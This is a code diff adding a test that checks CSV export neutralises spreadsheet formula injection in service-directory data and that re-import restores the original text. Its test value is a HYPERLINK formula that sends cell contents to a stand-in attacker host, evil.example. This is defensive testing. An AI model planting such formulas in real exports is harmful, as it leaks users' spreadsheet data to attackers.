@@ -59,3 +59,25 @@ def test_synthetic_data_round_trip(app, tmp_path) -> None:  # noqa: ANN001
         assert after[table] == counts[table], table
     export_to_dir(tmp_path / "second")
     assert_same_tables(tmp_path / "first", tmp_path / "second")
+
+
+def test_formula_text_is_defused_in_the_export_and_read_back_unchanged(app, tmp_path) -> None:  # noqa: ANN001
+    """Provider text a spreadsheet would run gets an apostrophe in the CSV; our import strips
+    exactly that apostrophe, so the round trip stays faithful."""
+    from app.directory.models import Service
+    from tests import factories
+
+    name = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
+    service = factories.make_service(name=name, description="-1+2 beds", fees_description="'@x")
+    service_id = service.id
+    db.session.commit()
+    export_to_dir(tmp_path / "first")
+    services = (tmp_path / "first" / "services.csv").read_text(encoding="utf-8")
+    assert "'=HYPERLINK(" in services and "'-1+2 beds" in services and "''@x" in services
+    assert ",=HYPERLINK" not in services
+    empty_database()
+    assert import_path(tmp_path / "first").ok
+    db.session.commit()
+    service = db.session.get(Service, service_id)
+    assert (service.name, service.description) == (name, "-1+2 beds")
+    assert service.fees_description == "'@x"
